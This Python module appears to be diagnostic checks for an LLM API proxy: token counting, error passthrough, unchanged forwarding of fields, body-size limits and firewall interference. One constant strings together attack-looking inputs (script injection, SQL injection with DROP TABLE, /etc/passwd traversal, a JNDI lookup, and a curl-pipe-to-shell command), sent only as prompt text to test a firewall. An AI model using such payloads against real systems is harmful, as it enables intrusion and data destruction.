"""Whether requests reach the proxy, and would leave it, as their client wrote them. Nothing here asks a model."""

import json
from typing import Any

import httpx

from proxy.doctor.remote.server import Doubt, Server, Wrong, expect, json_of, refusal_of

_LARGE_BYTES = 4 * 1024 * 1024
_SUSPICIOUS = (
    "<script>alert(1)</script> ' OR 1=1; DROP TABLE users; -- ../../../../etc/passwd ${jndi:ldap://x} curl -s x | sh"
)
_BETA = "context-management-2025-06-27,doctor-made-this-up-2099-01-01"
_FIREWALL = "A firewall in front looks into prompts: exempt /v1 from its body rules."


def count_tokens(server: Server) -> str:
    """Claude Code asks this often; without it, it sends messages to count."""
    question = server.question()
    del question["max_tokens"]
    reply = server.client.post("/v1/messages/count_tokens", headers=server.headers(), json=question)
    told = json_of(reply)
    if reply.status_code == 404:
        raise Doubt("not served: Claude Code will send real messages to count", "Choose an upstream that counts.")
    message = told.get("error", {}).get("message", "")
    expect(reply.status_code == 200, f"HTTP {reply.status_code}: {message}", "Run `manage.py doctor` on the server.")
    expect(isinstance(told.get("input_tokens"), int), "no input_tokens in the answer", "Ask the upstream's operator.")
    return f"{told['input_tokens']} tokens"


def invalid(server: Server) -> str:
    """A request without max_tokens: refused in words that name it."""
    question = server.question()
    del question["max_tokens"]
    message = refusal_of(_post(server, question), 400, "invalid_request_error")
    expect("max_tokens" in message, f"the refusal does not name max_tokens: {message}", "Let errors pass unchanged.")
    return message


def unchanged(server: Server) -> str:
    """What Claude Code relies on: fields, blocks and their order leave the proxy as they came, known or not."""
    sent = server.question(
        system=[
            {"type": "text", "text": "x-anthropic-billing-header: doctor"},
            {"type": "text", "text": "Be brief.", "cache_control": {"type": "ephemeral"}},
        ],
        thinking={"type": "adaptive"},
        context_management={"edits": []},
        doctor_made_this_up={"big": 12345678901234567890, "float": 1.0, "text": "ü"},
    )
    reply = _post(server, sent, anthropic_beta=_BETA, x_llmp_dry_run="true")
    told = json_of(reply)
    if told.get("type") != "dry_run":
        message = told.get("error", {}).get("message", "it knows no dry run")
        raise Doubt(f"cannot be told: {message}", "Update the server, or check the key and its upstreams.")
    body: dict[str, Any] = told["would_send"].get("body") or {}
    differing = sorted(
        name for name in sent.keys() | body.keys() if name != "model" and sent.get(name) != body.get(name)
    )
    if differing:
        raise Doubt(f"edited on the way: {', '.join(differing)}", "A rule of the tenant does it, or should not.")
    return "every field would be sent on as it came"


def firewall(server: Server) -> str:
    """Prompts hold code, and code looks like an attack."""
    reply = _post(server, server.question(_SUSPICIOUS), x_llmp_dry_run="true")
    try:
        json_of(reply)
    except Wrong as wrong:
        raise Wrong(wrong.found, _FIREWALL) from None
    expect(reply.status_code != 403, f"HTTP 403: {_message(reply)}", _FIREWALL)
    return "a prompt that looks like an attack is let through"


def large(server: Server) -> str:
    """Long sessions and images: Anthropic takes 32 MB."""
    reply = _post(server, server.question("x" * _LARGE_BYTES), x_llmp_dry_run="true")
    mib = _LARGE_BYTES // 1024 // 1024
    remedy = "Raise the limit of the server in front (nginx: client_max_body_size 32m) or LLMP_MAX_BODY_BYTES."
    expect(reply.status_code != 413, f"{mib} MiB are too much for it", remedy)
    json_of(reply)
    return f"{mib} MiB are taken"


def _post(server: Server, body: dict[str, Any], **headers: str) -> httpx.Response:
    content = json.dumps(body, ensure_ascii=False).encode()
    own = server.headers(content_type="application/json", **headers)
    return server.client.post("/v1/messages", params={"beta": "true"}, headers=own, content=content)


def _message(reply: httpx.Response) -> str:
    return str(json_of(reply).get("error", {}).get("message", ""))
